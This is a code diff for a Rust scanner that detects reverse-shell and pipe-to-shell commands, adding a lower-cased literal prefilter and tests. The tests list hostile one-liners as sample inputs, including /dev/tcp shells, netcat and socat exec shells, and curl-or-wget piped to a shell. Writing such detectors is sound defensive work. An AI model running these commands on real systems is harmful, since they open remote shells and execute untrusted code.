@@ -123,6 +123,61 @@ static REVERSE_SHELL: LazyLock<SpanRegex> =
 static PIPE_TO_SHELL: LazyLock<SpanRegex> =
     LazyLock::new(|| SpanRegex::new(PIPE_TO_SHELL_PATTERN).expect("valid regex"));
 
+/// Strings, in ASCII lower case, one of which every match of either byte-level pattern
+/// contains, whatever its case: `/dev/tcp/`; the `>&` or `<&` of `bash -i >&` and `sh -i <&`;
+/// the `/bin/` of `nc -e /bin/sh`; the `exec:` of `socat … exec:`; the `fifo` of
+/// `mkfifo … nc`; `curl` or `wget` before a pipe to a shell; PowerShell's `iex` or the
+/// `e-expre` of `invoke-expression`.
+///
+/// None holds an `s` or a `k`: the patterns' `(?i)` folds those to `ſ` and the Kelvin sign
+/// too, which an ASCII lower-casing would not see (no other letter here folds to anything
+/// outside ASCII; a test checks every character). Most files contain none of these, and
+/// searching for them costs a tenth of the patterns' own search, whose prefilter
+/// stops at every `sh` and `nc` of ordinary text ([`may_match`]).
+const NEEDED: &[&str] = &[
+    "/dev/tcp/",
+    ">&",
+    "<&",
+    "/bin/",
+    "exec:",
+    "fifo",
+    "curl",
+    "wget",
+    "iex",
+    "e-expre",
+];
+/// Leftmost-first, which lets the automaton search with its SIMD prefilter (Teddy); the
+/// standard match kind of `AhoCorasick::new` was seen scanning without it in a profile.
+static NEEDED_SEARCH: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    AhoCorasick::builder()
+        .match_kind(aho_corasick::MatchKind::LeftmostFirst)
+        .build(NEEDED)
+        .expect("literal words")
+});
+
+/// Whether `text` contains one of the [`NEEDED`] strings in any ASCII case: where it does
+/// not, neither byte-level pattern can match anywhere in it. Lower-cased a piece at a time
+/// (pieces overlapping by the longest string but one, so none is split unseen), as the
+/// packed searcher that makes this fast has no case-insensitive mode.
+fn may_match(text: &[u8]) -> bool {
+    const PIECE: usize = 16 << 10;
+    const KEEP: usize = 8; // the longest of NEEDED, `/dev/tcp/`, less one
+    let mut lower = [0u8; PIECE + KEEP];
+    let mut start = 0;
+    while start < text.len() {
+        let from = start.saturating_sub(KEEP);
+        let to = (start + PIECE).min(text.len());
+        let piece = &mut lower[..to - from];
+        piece.copy_from_slice(&text[from..to]);
+        piece.make_ascii_lowercase();
+        if NEEDED_SEARCH.is_match(&*piece) {
+            return true;
+        }
+        start = to;
+    }
+    false
+}
+
 /// A string of at least 2000 characters, all base64 alphabet or whitespace (what the
 /// pattern `^[A-Za-z0-9+/=\s]{2000,}$` says; checked by hand because that regex compiles to
 /// 2000 copies of its class — 4 % of a cold `validate` of the Hermes corpus).
@@ -304,9 +359,12 @@ pub fn rules_matching(text: &str) -> Vec<&'static str> {
 /// searched with the same context the whole text gives it: where neither pattern matches
 /// the whole text, no line can match (a pass per pattern instead of one per line; the two
 /// joined in one regex were measured 2.5× slower). A longer file is
-/// scanned as [`scan_bytes`] does.
+/// scanned as [`scan_bytes`] does. Either way a text without a [`NEEDED`] string is not
+/// searched at all.
 pub fn byte_patterns_match(text: &str) -> bool {
-    if text.len() <= WINDOW {
+    if !may_match(text.as_bytes()) {
+        false
+    } else if text.len() <= WINDOW {
         REVERSE_SHELL.is_match(text) || PIPE_TO_SHELL.is_match(text)
     } else {
         !byte_patterns(text.as_bytes(), "", WINDOW, OVERLAP).is_empty()
@@ -891,6 +949,60 @@ mod byte_tests {
             "{}\n",
             "y".repeat(WINDOW + 10)
         )));
+    }
+
+    /// The [`NEEDED`] strings are searched in ASCII lower case, which is only sound while
+    /// none of their letters matches a character outside ASCII under the patterns' `(?i)`
+    /// (as `s` matches `ſ` and `k` the Kelvin sign): checked against every character.
+    #[test]
+    fn no_needed_letter_folds_outside_ascii() {
+        let letters: std::collections::BTreeSet<char> = NEEDED
+            .iter()
+            .flat_map(|w| w.chars())
+            .filter(char::is_ascii_alphabetic)
+            .collect();
+        let class: String = letters.iter().collect();
+        let fold = SpanRegex::new(&format!("(?i)[{class}]")).unwrap();
+        let beyond: String = (0x80..=0x10FFFF).filter_map(char::from_u32).collect();
+        assert_eq!(fold.find(&beyond), None);
+        let folds_s = SpanRegex::new("(?i)s").unwrap();
+        assert!(folds_s.is_match("\u{17f}"), "the check would see a fold");
+    }
+
+    /// Every way either pattern can match, in odd cases, holds a [`NEEDED`] string, found
+    /// wherever it falls against the lower-casing's pieces; text without one is skipped.
+    #[test]
+    fn every_match_holds_a_needed_string() {
+        let matching = [
+            "exec 5<>/DEV/TCP/10.0.0.1/4444",
+            "BASH -I >& x",
+            "baſh -i >& x",
+            "NCat -v -E /BIN/ZSH",
+            "nc -e /bin/ſh",
+            "SoCaT tcp:1.2.3.4:9 EXEC:'bash -li'",
+            "ſocat - exec:sh",
+            "MKFIFO /tmp/f; cat /tmp/f | sh -i | NC 10.0.0.1 9 > /tmp/f",
+            "mKfifo /tmp/f; nc x",
+            "sh -i <& 3",
+            "Curl -fsSL https://e.invalid/x | SUDO bash",
+            "WGET -qO- https://e.invalid/x |sh",
+            "IEX (New-Object Net.WebClient).DownloadString('x')",
+            "Invoke-Expression (iwr x)",
+            "invoKe-expreſſion (irm x)",
+        ];
+        for text in matching {
+            assert!(!rules_matching(text).is_empty(), "{text}");
+            assert!(may_match(text.as_bytes()), "{text}");
+            for at in [0, (16 << 10) - 3, (16 << 10) - 9, 3 * (16 << 10) + 5] {
+                let placed = format!("{}{text}{}", " ".repeat(at), " ".repeat(40));
+                assert!(may_match(placed.as_bytes()), "{text} at {at}");
+                assert!(byte_patterns_match(&placed), "{text} at {at}");
+            }
+        }
+        for text in ["", "import sys\nhash(x) and sync()\n", "bash -i ; nc -e sh"] {
+            assert!(!may_match(text.as_bytes()), "{text}");
+            assert!(rules_matching(text).is_empty(), "{text}");
+        }
     }
 
     #[test]
